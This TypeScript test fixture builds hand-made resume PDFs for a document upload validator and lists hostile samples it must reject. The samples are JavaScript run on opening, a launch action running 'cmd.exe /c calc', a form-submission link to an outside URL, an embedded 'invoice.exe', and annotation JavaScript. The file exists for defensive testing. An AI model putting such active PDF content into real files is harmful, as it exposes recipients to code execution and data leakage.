import { deflateSync } from 'node:zlib';

/*
 * For the tests: small PDFs written out by hand, each a one-page resume plus what a test adds to it,
 * laid out as real writers do: a classic cross-reference table, or (compressed) every object but the
 * streams inside a FlateDecode object stream, indexed by a FlateDecode cross-reference stream.
 */

export type ResumeParts = {
  /** Entries added to the catalog (object 1), e.g. '/OpenAction 6 0 R'. */
  catalog?: string;
  /** Entries added to the page (object 3), e.g. '/Annots [6 0 R]'. */
  page?: string;
  /** Objects 6, 7, ...: a dictionary, or a whole stream object ('<< ... >>\nstream\n...\nendstream'). */
  objects?: string[];
};

const HEADER = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
const TEXT = 'BT /F1 18 Tf 72 720 Td (Asha Patel - Registered nurse) Tj ET';

function resumeObjects({ catalog = '', page = '', objects = [] }: ResumeParts): string[] {
  return [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${page} >>`,
    `<< /Length ${TEXT.length} >>\nstream\n${TEXT}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...objects,
  ];
}

const isStream = (object: string) => /\bstream\n/.test(object);

/** Objects 1..n with a classic `xref` table. */
export function classicPdf(parts: ResumeParts = {}): Buffer {
  const objects = resumeObjects(parts);
  let body = HEADER;
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(body.length);
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = body.length;
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

/** The same objects, dictionaries compressed in an object stream, indexed by a cross-reference stream (PDF 1.5). */
export function compressedPdf(parts: ResumeParts = {}): Buffer {
  const objects = resumeObjects(parts);
  const streamNumber = objects.length + 1;
  const xrefNumber = objects.length + 2;
  const packed = objects.map((object, i) => ({ number: i + 1, object })).filter(({ object }) => !isStream(object));
  let index = '';
  let data = '';
  for (const { number, object } of packed) {
    index += `${number} ${data.length} `;
    data += `${object}\n`;
  }
  const objectStream = deflateSync(Buffer.from(index + data, 'latin1'));

  const chunks: Buffer[] = [Buffer.from(HEADER, 'latin1')];
  let length = chunks[0]!.length;
  const add = (buffer: Buffer) => {
    chunks.push(buffer);
    length += buffer.length;
  };
  // Entries: [type, field 2, field 3] with /W [1 4 2]: 1 = at an offset, 2 = in an object stream.
  const entries: Array<[number, number, number]> = [[0, 0, 65535]];
  objects.forEach((object, i) => {
    const slot = packed.findIndex((p) => p.number === i + 1);
    if (slot >= 0) {
      entries.push([2, streamNumber, slot]);
      return;
    }
    entries.push([1, length, 0]);
    add(Buffer.from(`${i + 1} 0 obj\n${object}\nendobj\n`, 'latin1'));
  });
  entries.push([1, length, 0]);
  add(Buffer.concat([Buffer.from(`${streamNumber} 0 obj\n<< /Type /ObjStm /N ${packed.length} /First ${index.length} /Filter /FlateDecode /Length ${objectStream.length} >>\nstream\n`, 'latin1'), objectStream, Buffer.from('\nendstream\nendobj\n', 'latin1')]));
  const xrefOffset = length;
  entries.push([1, xrefOffset, 0]);
  const table = Buffer.alloc(entries.length * 7);
  entries.forEach(([type, two, three], i) => {
    table.writeUInt8(type, i * 7);
    table.writeUInt32BE(two, i * 7 + 1);
    table.writeUInt16BE(three, i * 7 + 5);
  });
  const xref = deflateSync(table);
  add(Buffer.concat([Buffer.from(`${xrefNumber} 0 obj\n<< /Type /XRef /Size ${entries.length} /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length ${xref.length} >>\nstream\n`, 'latin1'), xref, Buffer.from(`\nendstream\nendobj\nstartxref\n${xrefOffset}\n%%EOF\n`, 'latin1')]));
  return Buffer.concat(chunks);
}

/** The PDFs a staff member must never receive, and why they are refused. */
export const HOSTILE = {
  'JavaScript run on opening, inside a compressed object stream': compressedPdf({ catalog: '/OpenAction 6 0 R', objects: ['<< /S /JavaScript /JS (app.alert\\(1\\)) >>'] }),
  'a launch action when the page opens': classicPdf({ page: '/AA << /O << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> >>' }),
  'a link that submits the form': classicPdf({ page: '/Annots [6 0 R]', objects: ['<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /A << /S /SubmitForm /F << /FS /URL /F (https://example.com/collect) >> >> >>'] }),
  'an embedded file': classicPdf({
    catalog: '/Names << /EmbeddedFiles << /Names [(invoice.exe) 6 0 R] >> >>',
    objects: ['<< /Type /Filespec /F (invoice.exe) /EF << /F 7 0 R >> >>', '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream'],
  }),
  'a link annotation running JavaScript': classicPdf({ page: '/Annots [6 0 R]', objects: ['<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /A << /S /JavaScript /JS (this.exportDataObject\\({cName: "a"}\\)) >> >>'] }),
} as const;

/** What each hostile PDF's refusal says (the exact `error_detail`). */
export const HOSTILE_DETAIL: Record<keyof typeof HOSTILE, string> = {
  'JavaScript run on opening, inside a compressed object stream': 'resume_base64: the PDF contains active content (JavaScript)',
  'a launch action when the page opens': 'resume_base64: the PDF contains active content (a launch action)',
  'a link that submits the form': 'resume_base64: the PDF contains active content (a form-submission action)',
  'an embedded file': 'resume_base64: the PDF contains active content (embedded files)',
  'a link annotation running JavaScript': 'resume_base64: the PDF contains active content (JavaScript)',
};

/** Files that start like a PDF and are none. */
export const UNREADABLE = {
  'text after the %PDF- header': Buffer.from(`%PDF-1.7\n${'This is not a PDF, only its first five bytes are. '.repeat(40)}`, 'latin1'),
  'a PDF cut off inside its first object': classicPdf().subarray(0, 40),
} as const;
